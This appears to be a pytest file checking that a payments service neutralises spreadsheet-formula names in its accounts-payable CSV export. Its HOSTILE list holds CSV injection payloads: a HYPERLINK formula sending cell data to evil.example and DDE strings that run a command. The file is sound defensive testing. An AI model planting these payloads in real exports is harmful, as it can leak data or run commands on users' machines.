"""The accounts-payable export is opened in a spreadsheet: a legal name that looks like a formula must arrive as
text (issue 12 §5; OWASP CSV injection: a cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from uuid import uuid4

import pytest
from payments.application import Payments, spreadsheet_safe
from payments.domain import PaymentAccount

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_legal_name_starting_like_a_formula_is_exported_as_text(name: str) -> None:
    app = Payments("memory://")
    account = PaymentAccount(uuid4())
    account.record_payee(name, "1234567893", None)
    account.pay("M1", Decimal("10000.00"), "2025Q1", "2024.1", source_event="e", cap=Decimal("40000.00"))
    app.save(account)
    rows = list(csv.reader(io.StringIO(app.export("2025Q1"))))
    assert rows[1][1] == "'" + name  # the whole value kept, neutralised
    assert not rows[1][1].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[1][2] == "1234567893" and rows[1][4] == "10000.00"


def test_ordinary_cells_are_unchanged() -> None:
    assert [spreadsheet_safe(v) for v in ("Sunrise Skilled Nursing", "", "1234567893", "cut to the $40,000.00 cap",
                                          "O'Brien Care", "A=B")] == [
        "Sunrise Skilled Nursing", "", "1234567893", "cut to the $40,000.00 cap", "O'Brien Care", "A=B"]
